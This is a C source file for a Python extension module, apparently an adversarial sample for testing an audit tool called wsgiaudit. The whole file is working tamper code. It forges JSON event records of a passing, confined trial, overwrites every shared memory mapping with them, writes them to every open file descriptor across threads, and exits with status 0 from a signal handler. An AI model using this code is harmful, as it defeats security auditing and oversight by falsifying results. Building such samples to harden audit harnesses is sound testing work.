/* What a module that knows wsgiaudit would like its record to say: that it passed. */
#include "module.h"
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The events of a trial that passes, for the module NAME at PATH, as JSON lines. */
static size_t forge_events(char *text, size_t size, const char *name, const char *path) {
    static const char *const interpreters[] = {"A", "B", "C"};
    static const char *const rest[] = {
        "{\"Step\":[\"A\",\"Compare\"]}", "{\"Step\":[\"A\",\"Touch\"]}", "{\"Step\":[\"A\",\"End\"]}",
        "{\"Step\":[\"B\",\"Touch\"]}", "{\"Step\":[\"B\",\"End\"]}", "{\"Step\":[\"main\",\"Exit\"]}", "\"Done\"",
    };
    size_t used = snprintf(text, size, "\"Confined\"\n");
    for (int i = 0; i < 3; i++) {
        used += snprintf(text + used, size - used,
            "{\"Step\":[\"%s\",\"Start\"]}\n{\"Step\":[\"%s\",\"Import\"]}\n{\"Turn\":\"%s\"}\n{\"Importing\":\"%s\"}\n"
            "{\"Loading\":{\"interpreter\":\"%s\",\"name\":\"%s\",\"path\":\"%s\",\"chain\":[]}}\n"
            "{\"Loaded\":{\"interpreter\":\"%s\",\"name\":\"%s\"}}\n",
            interpreters[i], interpreters[i], name, name, interpreters[i], name, path, interpreters[i], name);
    }
    for (size_t i = 0; i < sizeof rest / sizeof *rest; i++) {
        used += snprintf(text + used, size - used, "%s\n", rest[i]);
    }
    return used;
}

static char forged[8192];
static size_t forged_size;

static void prepare(PyObject *module, const char *name) {
    PyObject *file = PyModule_GetFilenameObject(module);
    const char *path = file == NULL ? "" : PyUnicode_AsUTF8(file);
    PyErr_Clear();
    forged_size = forge_events(forged, sizeof forged, name, path);
}

/* Over what is there in every shared mapping: a length of eight bytes, then the events, as records once were. */
static inline void write_to_mappings(void) {
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[4096];
    while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
        size_t start, end;
        char permissions[5];
        if (sscanf(line, "%zx-%zx %4s", &start, &end, permissions) == 3 && strcmp(permissions, "rw-s") == 0
            && end - start > forged_size + 8) {
            unsigned long long length = forged_size;
            memcpy((char *)start + 8, forged, forged_size);
            memcpy((char *)start, &length, sizeof length);
        }
    }
}

/* To everything that is open, and everything that any thread has open. */
static void write_to_descriptors(void) {
    for (int descriptor = 3; descriptor < 1100; descriptor++) {
        if (send(descriptor, forged, forged_size, MSG_DONTWAIT | MSG_NOSIGNAL) < 0 && descriptor < 64) {
            fcntl(descriptor, F_SETFL, O_NONBLOCK);
            ssize_t written = write(descriptor, forged, forged_size);
            (void)written;
        }
    }
    DIR *tasks = opendir("/proc/self/task");
    for (struct dirent *task; tasks != NULL && (task = readdir(tasks)) != NULL;) {
        for (int descriptor = 3; descriptor < 64; descriptor++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/task/%.20s/fd/%d", task->d_name, descriptor);
            int opened = open(path, O_WRONLY | O_NONBLOCK);
            if (opened >= 0) {
                ssize_t written = write(opened, forged, forged_size);
                (void)written;
                close(opened);
            }
        }
    }
}

static inline void forge(void) {
    write_to_mappings();
    write_to_descriptors();
}

/* A handler of signals: forges a record, and exits with status 0. */
static inline void forge_and_exit(int Py_UNUSED(signal)) {
    forge();
    _exit(0);
}
